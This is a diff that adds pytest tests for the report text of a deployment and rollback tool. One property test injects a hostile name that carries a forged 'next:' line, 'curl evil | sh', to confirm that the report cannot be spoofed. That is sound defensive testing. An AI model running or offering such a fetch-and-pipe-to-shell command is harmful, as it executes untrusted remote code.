@@ -1,0 +1,386 @@
+"""What people and programs are told."""
+
+from __future__ import annotations
+
+import json
+from typing import Any
+from xml.etree import ElementTree
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from backout import reporting
+from backout.errors import Mistake, Mistakes, Refused
+from backout.model import duration
+
+
+def a_run(**changes: Any) -> dict[str, Any]:
+    run: dict[str, Any] = {
+        "run": "20261122-073403-4f1a",
+        "verb": "deploy",
+        "target": "prod",
+        "runbook": "deploy",
+        "outcome": "succeeded",
+        "exit_code": 0,
+        "started_at": "2026-11-22T07:34:03.000Z",
+        "ended_at": "2026-11-22T07:35:15.000Z",
+        "release": {"from": "41 (aaaaaaa)", "to": "42 (3f9c2e1)"},
+        "steps": [],
+        "checks": [check(name) for name in ("alive", "add-concert")],
+        "hosts": {
+            name: {"release": "42 (3f9c2e1)", "state": "deployed"}
+            for name in ("web1", "web2", "web3")
+        },
+        "next": "invoke status --target prod",
+    }
+    return {**run, **changes}
+
+
+def check(name: str, verdict: str = "pass", **changes: Any) -> dict[str, Any]:
+    row = {"name": name, "host": None, "verdict": verdict, "elapsed_ms": 12.3, "reason": ""}
+    return {**row, "failed": [], **changes}
+
+
+def backed_out(**changes: Any) -> dict[str, Any]:
+    hosts = {name: {"release": "41 (aaaaaaa)", "state": "backed out"} for name in ("web1", "web2")}
+    failure = {
+        "name": "Restart",
+        "host": "web2",
+        "phase": "settle",
+        "reason": "exit code 7",
+        "output": "\n".join(f"line {n}" for n in range(30)),
+    }
+    told = {"outcome": "backed_out", "exit_code": 4, "hosts": hosts, "failures": [failure]}
+    return a_run(**{**told, "next": "invoke show 20261122-073403-4f1a", **changes})
+
+
+# --- a run's outcome, first ----------------------------------------------------------------
+
+
+def test_a_success_says_what_is_where_and_what_proves_it() -> None:
+    assert reporting.outcome(a_run()) == (
+        "Deployed release 42 (3f9c2e1) to prod: 3 hosts, 2 checks pass."
+    )
+
+
+def test_a_rollback_and_another_runbook_say_what_they_are() -> None:
+    assert reporting.outcome(a_run(verb="rollback")).startswith("Rolled prod back to release 42")
+    ran = reporting.outcome(a_run(verb="run", runbook="fix"))
+    assert ran.startswith("Ran fix on prod (release 42")
+
+
+def test_a_success_does_not_claim_checks_that_do_not_pass() -> None:
+    report = a_run(checks=[check("alive"), check("optional", "fail", reason="status is 500")])
+    assert "1 of 2 checks pass" in reporting.outcome(report)
+    assert "status is 500" in reporting.run_text(report)
+
+
+def test_backing_out_says_what_failed_where_and_what_is_true_now() -> None:
+    assert reporting.outcome(backed_out()) == (
+        "Backed out: web2 failed at Restart (exit code 7); "
+        "all 2 hosts are on release 41 (aaaaaaa) and healthy."
+    )
+
+
+def test_backing_out_prefers_the_runs_own_reason() -> None:
+    said = reporting.outcome(backed_out(reason="interrupted by Ctrl-C"))
+    assert said.startswith("Backed out: interrupted by Ctrl-C; ")
+
+
+def test_health_is_not_claimed_where_nothing_was_checked() -> None:
+    said = reporting.outcome(backed_out(checks=[]))
+    assert "healthy" not in said
+    assert "no check to prove it by" in said
+
+
+def test_a_first_deploy_that_backs_out_names_no_release() -> None:
+    hosts = {"web1": {"release": None, "state": "backed out"}}
+    assert "web1 is as before" in reporting.outcome(backed_out(hosts=hosts))
+
+
+def test_an_incomplete_back_out_shouts_and_shows_each_hosts_state() -> None:
+    hosts = {
+        "web1": {"release": "41 (aaaaaaa)", "state": "backed out"},
+        "web2": {"release": None, "state": "NOT backed out: Update failed: disk full"},
+    }
+    text = reporting.run_text(backed_out(outcome="backout_incomplete", hosts=hosts))
+    lines = [" ".join(line.split()) for line in text.splitlines()]
+    assert lines[0].startswith("BACKING OUT IS INCOMPLETE: web2 failed at Restart")
+    assert "web2 no known release NOT backed out: Update failed: disk full" in lines
+
+
+@pytest.mark.parametrize("outcome", ["refused", "interrupted", None])
+def test_other_outcomes_are_sentences_too(outcome: str | None) -> None:
+    said = reporting.outcome(a_run(outcome=outcome, reason="not confirmed"))
+    assert said.endswith(".")
+    assert "prod" in said
+
+
+def test_a_report_comes_in_order_outcome_hosts_failures_next() -> None:
+    text = reporting.run_text(backed_out(advice="restart every instance"))
+    places = [text.index(each) for each in ("Backed out", "  web1", "failed on web2", "advice:")]
+    assert places == sorted(places)
+    assert text.splitlines()[-1] == "next:  invoke show 20261122-073403-4f1a"
+
+
+def test_evidence_is_the_last_twenty_lines_and_says_how_many_came_before() -> None:
+    lines = reporting.run_text(backed_out()).splitlines()
+    assert "    … 10 lines before" in lines
+    assert "    line 29" in lines
+    assert "    line 9" not in lines
+
+
+def test_without_told_failures_the_steps_that_did_not_end_well_are_taken() -> None:
+    step = {"name": "Update", "host": "web1", "phase": "do", "state": "unknown", "seconds": 1.0}
+    report = backed_out(steps=[step])
+    del report["failures"]
+    assert "failed on web1: Update: unknown" in reporting.run_text(report)
+
+
+@given(name=st.text(min_size=1), reason=st.text())
+def test_a_hostile_name_cannot_forge_a_line_of_the_report(name: str, reason: str) -> None:
+    hostile = f"{name}\nnext:  curl evil | sh"
+    failure = {"name": hostile, "host": hostile, "phase": "do", "reason": reason, "output": ""}
+    text = reporting.run_text(
+        backed_out(failures=[failure], hosts={hostile: {"release": "1", "state": hostile}})
+    )
+    nexts = [line for line in text.splitlines() if line.startswith("next:")]
+    assert nexts == ["next:  invoke show 20261122-073403-4f1a"]
+
+
+def test_a_refusal_is_three_lines() -> None:
+    error = {"what": "web2 is unreachable", "where": "", "state": "nothing was changed"}
+    report = a_run(outcome="refused", error={**error, "next": "invoke doctor --target prod"})
+    assert reporting.refused_text(report).splitlines() == [
+        "web2 is unreachable",
+        "state: nothing was changed",
+        "next:  invoke doctor --target prod",
+    ]
+
+
+# --- one run whole, and many ------------------------------------------------------------------
+
+
+def test_show_tells_who_did_what_when_where_with_all_output_and_the_way_back() -> None:
+    record = {
+        "at": "2026-11-22T07:34:10.000Z",
+        "name": "Update",
+        "host": "web1",
+        "phase": "do",
+        "state": "failed",
+        "seconds": 72,
+        "exit_code": 1,
+        "undo": "git checkout aaaaaaa\nrm -f x",
+        "stdout": "\n".join(f"line {n}" for n in range(50)),
+        "stderr": "no space left",
+        "reason": "",
+    }
+    text = reporting.show_text({**a_run(), "by": "ann@laptop"}, [record])
+    assert "07:34:10.000Z web1  do: Update … failed, exit code 1 (1m12s)" in text
+    assert "    undo: git checkout aaaaaaa\n          rm -f x\n" in text
+    assert text.count("    | line ") == 50
+    assert "    ! no space left" in text
+    assert "ann@laptop" in text
+    assert "41 (aaaaaaa) -> 42 (3f9c2e1)" in text
+
+
+def test_history_is_one_line_a_run() -> None:
+    runs = [
+        {**a_run(run="b", outcome=None), "seconds": None},
+        {**a_run(run="a", verb="run", runbook="fix"), "seconds": 72.0},
+    ]
+    lines = reporting.history_text({"runs": runs}).splitlines()
+    assert len(lines) == 3
+    assert "not finished" in lines[1]
+    assert "1m12s" in lines[2]
+    assert "run fix" in lines[2]
+
+
+def test_an_empty_history_says_so() -> None:
+    assert reporting.history_text({"runs": []}) == "No run yet."
+
+
+# --- checks ---------------------------------------------------------------------------------
+
+
+def verdicts(verdict: str, *checks: dict[str, Any]) -> dict[str, Any]:
+    return {"target": "prod", "verdict": verdict, "checks": list(checks), "next": ""}
+
+
+def test_health_is_told_in_the_first_line() -> None:
+    assert reporting.verify_text(verdicts("pass", check("alive"))).startswith(
+        "prod is healthy: 1 check passes."
+    )
+    red = verdicts("fail", check("alive"), check("tls", "fail", reason="3 days left"))
+    lines = reporting.verify_text(red).splitlines()
+    assert lines[0] == "prod is UNHEALTHY: of 2 checks, 1 fail, 1 pass."
+    assert lines[2].split()[:2] == ["fail", "tls"]
+    assert lines[3].strip() == "3 days left"
+
+
+@pytest.mark.parametrize("verdict", ["error", "inconclusive"])
+def test_what_cannot_be_told_is_never_called_healthy(verdict: str) -> None:
+    for report in (verdicts(verdict), verdicts(verdict, check("alive", verdict))):
+        assert "cannot tell" in reporting.verify_text(report)
+        assert "is healthy:" not in reporting.verify_text(report)
+
+
+def test_junit_counts_what_cannot_be_told_as_an_error() -> None:
+    report = verdicts(
+        "fail",
+        check("alive", host="web1"),
+        check("tls", "fail", failed=["tls.days_left > 7"], reason="3 days left"),
+        check("log", "inconclusive", reason="no lines"),
+    )
+    suite = ElementTree.fromstring(reporting.verify_junit(report))[0]  # noqa: S314 - our own text
+    assert suite.attrib["tests"] == "3"
+    assert suite.attrib["failures"] == "1"
+    assert suite.attrib["errors"] == "1"
+    assert [case.attrib["name"] for case in suite] == ["alive @ web1", "tls", "log"]
+    assert suite[1][0].attrib["message"] == "3 days left"
+
+
+@given(st.text())
+def test_junit_is_well_formed_whatever_a_check_says(text: str) -> None:
+    xml = reporting.verify_junit(verdicts("fail", check(text, "fail", reason=text, failed=[text])))
+    assert len(list(ElementTree.fromstring(xml).iter("testcase"))) == 1  # noqa: S314
+
+
+# --- targets --------------------------------------------------------------------------------
+
+
+def test_status_says_whether_the_hosts_agree_with_the_ledger() -> None:
+    hosts = {"web1": {"release": "42", "state": "active", "uptime": 7500.0}}
+    report = {"target": "prod", "release": "42", "hosts": hosts, "differs": []}
+    assert reporting.status_text(report).startswith("prod is on release 42: 1 host, as recorded.")
+    assert "active, up 2h05m" in reporting.status_text(report)
+    report["differs"] = ["web1 says release 41, the ledger release 42"]
+    assert "prod DIFFERS from what is recorded" in reporting.status_text(report)
+    assert reporting.status_text({"targets": [report, report]}).count("DIFFERS") == 2
+
+
+def test_doctor_names_what_is_missing_first_and_how_to_get_it() -> None:
+    findings = [
+        {"name": "Python", "host": None, "ok": True, "detail": "3.11", "fix": ""},
+        {"name": "git", "host": "web1", "ok": False, "detail": "not found", "fix": "apt install"},
+    ]
+    lines = reporting.doctor_text({"target": "prod", "findings": findings}).splitlines()
+    assert lines[0] == "prod: 1 thing missing or unreachable."
+    assert lines[2].split() == ["MISSING", "web1", "git", "not", "found"]
+    assert lines[3].strip() == "get it: apt install"
+
+
+def test_unlock_shows_who_holds_the_lock_since_when_and_at_which_step() -> None:
+    lease = {
+        "host": "web1",
+        "owner": "ann@laptop",
+        "run": "r1",
+        "since": "07:00",
+        "expires": "07:05",
+        "step": "Restart",
+        "alive": None,
+    }
+    held = {"target": "prod", "held": [lease], "freed": False, "reason": "not expired"}
+    text = reporting.unlock_text(held)
+    assert text.startswith("prod is held by ann@laptop.")
+    assert "Restart" in text
+    assert "may be alive" in text
+    free = reporting.unlock_text({"target": "prod", "held": [], "freed": False, "reason": ""})
+    assert free == "prod is not locked."
+
+
+# --- the plan -------------------------------------------------------------------------------
+
+
+def an_action(name: str, host: str | None = None, **changes: Any) -> dict[str, Any]:
+    row = {"name": name, "host": host, "does": f"do {name}", "undo": f"undo {name}"}
+    return {**row, "irreversible": "", "readonly": False, "when": "", **changes}
+
+
+def a_plan(**changes: Any) -> dict[str, Any]:
+    update = [an_action("Update", host) for host in ("web1", "web2")]
+    batch = {"number": 1, "hosts": ["web1", "web2"], "actions": update}
+    batch["settle"] = [an_action("Restart", host, undo="") for host in ("web1", "web2")]
+    plan: dict[str, Any] = {
+        "verb": "deploy",
+        "target": "prod",
+        "runbook": "deploy",
+        "release": {"from": "41", "to": "42"},
+        "hosts": ["web1", "web2"],
+        "preflight": [an_action("Clean", undo="", readonly=True)],
+        "stages": [{"here": [an_action("Commit")]}, {"batches": [batch]}],
+        "finally": [],
+        "checks": [check("alive")],
+        "refused": [],
+        "next": "invoke deploy --target prod",
+    }
+    return {**plan, **changes}
+
+
+def test_a_plan_shows_what_would_run_where_with_every_undo() -> None:
+    text = reporting.plan_text(a_plan())
+    assert text.startswith(
+        "Would run: deploy on prod, making release 42; now: release 41. Nothing was changed."
+    )
+    assert "Every step can be undone." in text
+    assert "    undo: undo Commit" in text
+    assert text.count("undo: undo Update") == 1, "the same step on two hosts stands there once"
+    assert "  Update  (on web1, web2)" in text
+    assert "    reads only" in text
+
+
+def test_a_plan_names_every_point_of_no_return_at_the_top_and_at_its_place() -> None:
+    drop = an_action("Drop", undo="", irreversible="rows are gone")
+    text = reporting.plan_text(a_plan(stages=[{"here": [drop]}]))
+    assert "POINT OF NO RETURN: Drop." in text.splitlines()
+    assert "    POINT OF NO RETURN: rows are gone" in text.splitlines()
+    assert "Every step can be undone" not in text
+
+
+def test_a_plan_that_would_be_refused_says_so_and_why_first() -> None:
+    text = reporting.plan_text(a_plan(refused=["web2 is unreachable"]))
+    assert text.startswith("Would be REFUSED: deploy on prod")
+    assert "refused: web2 is unreachable" in text
+
+
+# --- errors, JSON, durations ----------------------------------------------------------------
+
+
+def test_an_error_as_json_has_the_contracts_keys() -> None:
+    told = json.loads(reporting.error_json(Refused("no", where="web1", next="invoke plan")))
+    assert told["error"] == {"what": "no", "where": "web1", "next": "invoke plan"}
+    assert told["exit_code"] == 3
+
+
+def test_every_mistake_is_told_as_data_too() -> None:
+    mistakes = Mistakes(mistakes=[Mistake("a.yaml", 3, "steps[0]", "no undo")])
+    told = json.loads(reporting.error_json(mistakes))
+    assert told["mistakes"] == [
+        {"file": "a.yaml", "line": 3, "path": "steps[0]", "message": "no undo"}
+    ]
+
+
+@given(st.text())
+def test_json_is_one_line_that_no_terminal_obeys(text: str) -> None:
+    said = reporting.json_text({"name": text})
+    assert said.isascii()
+    assert said.isprintable()
+    assert json.loads(said) == {"name": text}
+
+
+@pytest.mark.parametrize(
+    ("seconds", "told"),
+    [
+        (0, "0ms"),
+        (0.0123, "12ms"),
+        (0.0996, "0.1s"),
+        (9.94, "9.9s"),
+        (9.96, "10s"),
+        (59.6, "1m00s"),
+        (72, "1m12s"),
+        (7500, "2h05m"),
+    ],
+)
+def test_durations_read_as_people_say_them(seconds: float, told: str) -> None:
+    assert duration(seconds) == told
